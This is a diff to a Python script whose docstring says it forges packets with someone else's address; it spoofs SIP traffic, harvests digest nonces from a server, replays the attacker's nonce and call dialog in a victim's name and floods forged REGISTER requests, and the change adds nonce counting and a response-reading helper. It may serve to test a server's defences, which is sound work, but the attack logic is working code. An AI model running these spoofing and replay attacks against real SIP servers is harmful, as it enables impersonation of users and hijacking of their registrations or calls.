@@ -1,7 +1,8 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: GPL-2.0-only
 """Forges proofs: packets with somebody else's address that carry what the server was made to send
-there, though the attacker chose it himself. Prints how many packets it sent."""
+there, though the attacker chose it himself. Prints how many packets it sent, and how
+many nonces it learned."""
 
 import argparse
 import ipaddress
@@ -22,7 +23,7 @@ class Forger:
         self.wire = Wire()
         self.options = options
         self.victim = (options.victim, options.sport)
-        self.sent = 0
+        self.sent = self.learned = 0
 
     def send(self, text, source=None, gap=0.005):
         address, port = source or self.victim
@@ -86,6 +87,14 @@ def overwrite(forger):
         time.sleep(0.1)
 
 
+def response(sock):
+    """What the server answers; the agent's probe is none."""
+    while True:
+        text = sock.recv(65536)
+        if text.startswith(b"SIP/2.0"):
+            return text
+
+
 def replay(forger):
     """A nonce and a dialog that are really the attacker's own, used in the victim's name."""
     own = (forger.options.own, 5098)
@@ -94,9 +103,10 @@ def replay(forger):
         sock.connect((SERVER, 5060))
         sock.settimeout(0.5)
         sock.send(sip.request("REGISTER", "100", SERVER, own))
-        nonce = sip.nonce(sock.recv(65536))
+        nonce = sip.nonce(response(sock))
+        forger.learned += bool(nonce)
         sock.send(sip.request("INVITE", "9000", SERVER, own, call_id="replayed"))
-        text = sock.recv(65536)
+        text = response(sock)
     forger.believe_tags()
     to_tag = sip.header(text, "To").partition("tag=")[2]
     for _ in range(15):
@@ -114,7 +124,7 @@ def nonce_by(forger):
             sock.settimeout(0.5)
             sock.connect((SERVER, o.port))
             sock.send(sip.request("REGISTER", "100", SERVER, own))
-            return sip.nonce(sock.recv(65536))
+            return sip.nonce(response(sock))
     with socket.create_connection((SERVER, o.port), 1) as sock:
         if o.way == "tls":
             context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
@@ -150,6 +160,7 @@ def nonces(forger):
             nonce = ""
         if not nonce:
             continue
+        forger.learned += 1
         for _ in range(5):
             forger.request("REGISTER", "100", login=sip.credentials(nonce))
 
@@ -165,14 +176,14 @@ def main():
     parser.add_argument("--sport", type=int, default=5060)
     parser.add_argument("--ttl", type=int, default=64)
     parser.add_argument("--count", type=int, default=800)
-    parser.add_argument("--seconds", type=int, default=6)
+    parser.add_argument("--seconds", type=int, default=5)
     parser.add_argument("--way", default="tls")
     parser.add_argument("--port", type=int, default=5061)
     parser.add_argument("command", choices=COMMANDS)
     options = parser.parse_args()
     forger = Forger(options)
     COMMANDS[options.command](forger)
-    print(forger.sent)
+    print(forger.sent, forger.learned)
 
 
 if __name__ == "__main__":
